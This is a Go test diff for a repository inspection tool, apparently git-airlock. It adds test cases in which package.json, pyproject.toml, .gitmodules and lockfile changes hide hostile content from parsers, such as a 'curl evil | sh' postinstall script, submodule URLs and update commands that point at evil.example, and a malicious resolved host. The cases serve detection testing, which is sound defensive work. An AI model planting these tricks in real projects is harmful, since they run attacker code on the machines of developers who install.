@@ -1,13 +1,17 @@
 package inspect
 
 import (
+	"context"
 	"crypto/sha1"
 	"encoding/hex"
 	"fmt"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/git-airlock/git-airlock/gitx"
+	"github.com/git-airlock/git-airlock/internal/xec"
 )
 
 // memBlobs is an object store in memory for unit tests.
@@ -34,6 +38,24 @@ func (m memBlobs) BlobHead(h string, max int64) ([]byte, error) {
 		return nil, fmt.Errorf("no blob %s", h)
 	}
 	return b[:min(int64(len(b)), max)], nil
+}
+
+// BlobConfig runs git's own config parser, as gitx does.
+func (m memBlobs) BlobConfig(h string) ([]gitx.ConfigEntry, error) {
+	b, ok := m[h]
+	if !ok {
+		return nil, fmt.Errorf("no blob %s", h)
+	}
+	f := filepath.Join(os.TempDir(), "airlock-inspect-test-"+h)
+	if err := os.WriteFile(f, b, 0o644); err != nil {
+		return nil, err
+	}
+	defer os.Remove(f)
+	out, err := (&xec.Runner{}).Output(context.Background(), xec.Cmd{Argv: []string{"git", "config", "--no-includes", "-z", "-f", f, "--list"}})
+	if err != nil {
+		return nil, gitx.ErrConfigSyntax
+	}
+	return gitx.ParseConfigList(out), nil
 }
 
 func added(m memBlobs, p, content string) gitx.TreeChange {
@@ -185,5 +207,67 @@ func TestMergeFindings(t *testing.T) {
 	}
 	if got, want := rules(t, fs), "high:criss-cross high:unseen-change medium:merge-conflict"; got != want {
 		t.Fatalf("got %q, want %q", got, want)
+	}
+}
+
+// TestParserDifferences: each case is a hostile change written for a
+// parser that reads the file differently from the tool that runs it.
+func TestParserDifferences(t *testing.T) {
+	m := memBlobs{}
+	pkg := `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"}}`
+	bigLock := `{"packages":{` + strings.Repeat(`"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.tgz"},`, 3<<20/70)
+	tests := []struct {
+		name   string
+		change gitx.TreeChange
+		want   string
+	}{
+		{"npm case-folded Scripts shadow", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh"},"Scripts":{"postinstall":"npm run build"}}`), "high:install-script"},
+		{"npm only Scripts is ignored by npm", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"Scripts":{"postinstall":"curl evil | sh"}}`), ""},
+		{"npm duplicate scripts, last wins", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"npm run build"},"scripts":{"postinstall":"curl evil | sh"}}`), "high:manifest-duplicate-key high:install-script"},
+		{"npm duplicate script name", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"test":"jest","postinstall":"curl evil | sh","postinstall":"npm run build"}}`), "high:manifest-duplicate-key"},
+		{"npm preprepare", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build","preprepare":"sh x"}}`), "high:install-script"},
+		{"npm postprepare", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"jest","postinstall":"npm run build","postprepare":"sh x"}}`), "high:install-script"},
+		{"npm escaped key", modified(m, "package.json", pkg, `{"name":"x","scr\u0069pts":{"test":"jest","postinstall":"sh x"}}`), "high:install-script"},
+		{"npm BOM", modified(m, "package.json", pkg, "\ufeff"+`{"name":"x","scripts":{"test":"jest","postinstall":"sh x"}}`), "high:install-script"},
+		{"npm unparsable", modified(m, "package.json", pkg, `{"name":"x","scripts":{"postinstall":"sh x"},}`), "high:manifest-unparsable"},
+		{"npm trailing content", modified(m, "package.json", pkg, pkg+`{}`), "high:manifest-unparsable"},
+		{"npm over the content cap", modified(m, "package.json", pkg,
+			`{"name":"x","scripts":{"postinstall":"sh x"},"pad":"`+strings.Repeat("x", maxContent)+`"}`), "high:too-large-to-check medium:large-file"},
+		{"npm benign script edit", modified(m, "package.json", pkg, `{"name":"x","scripts":{"test":"vitest","postinstall":"npm run build"},"version":"2"}`), ""},
+		{"pyproject quoted keys", modified(m, "pyproject.toml", "[project]\nname='x'\n",
+			"[\"build-system\"]\n\"build-backend\" = 'evil'\n[project]\nname='x'\n"), "high:build-backend"},
+		{"pyproject inline table", modified(m, "pyproject.toml", "[project]\nname='x'\n",
+			"build-system = { requires = ['evil'], build-backend = 'evil' }\n[project]\nname='x'\n"), "high:build-backend"},
+		{"pyproject hatch build hook", modified(m, "pyproject.toml", "[project]\nname='x'\n",
+			"[project]\nname='x'\n[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'hook.py'\n"), "high:build-backend"},
+		{"pyproject unparsable", modified(m, "pyproject.toml", "[project]\nname='x'\n", "[project\nname='x'\n"), "high:manifest-unparsable"},
+		{"pyproject dependency bump", modified(m, "pyproject.toml", "[build-system]\nrequires=['setuptools']\n[project]\ndependencies=['a==1']\n",
+			"[build-system]\nrequires=['setuptools']\n[project]\ndependencies=['a==2']\n"), ""},
+		{"gitmodules URL in capitals", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
+			"[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n\tURL = https://evil.example/a\n"), "high:submodule-url"},
+		{"gitmodules one-line section", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
+			"[submodule \"a\"] path = a\n[submodule \"a\"] url = https://evil.example/a\n"), "high:submodule-url"},
+		{"gitmodules update command", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n",
+			"[submodule \"a\"]\n\tpath = a\n\tUpdate = !sh -c evil\n"), "high:submodule-url"},
+		{"gitmodules unparsable", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n", "[submodule \"a\n\turl = x\n"), "high:gitmodules-unparsable"},
+		{"gitmodules reformatted only", modified(m, ".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/a\n",
+			"[submodule \"a\"]\n  path=a\n  url=https://github.com/a/a\n  ignore = dirty\n"), "medium:gitmodules"},
+		{"lockfile new host after 3 MiB", modified(m, "package-lock.json", bigLock+`"z":{}}}`,
+			bigLock+`"node_modules/z":{"resolved":"https://evil.example.com/z.tgz"}}}`), "high:lockfile-source"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			fs, err := Inspect([]gitx.TreeChange{tc.change}, m, Options{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := rules(t, fs); got != tc.want {
+				t.Fatalf("got %q, want %q (%+v)", got, tc.want, fs)
+			}
+		})
 	}
 }
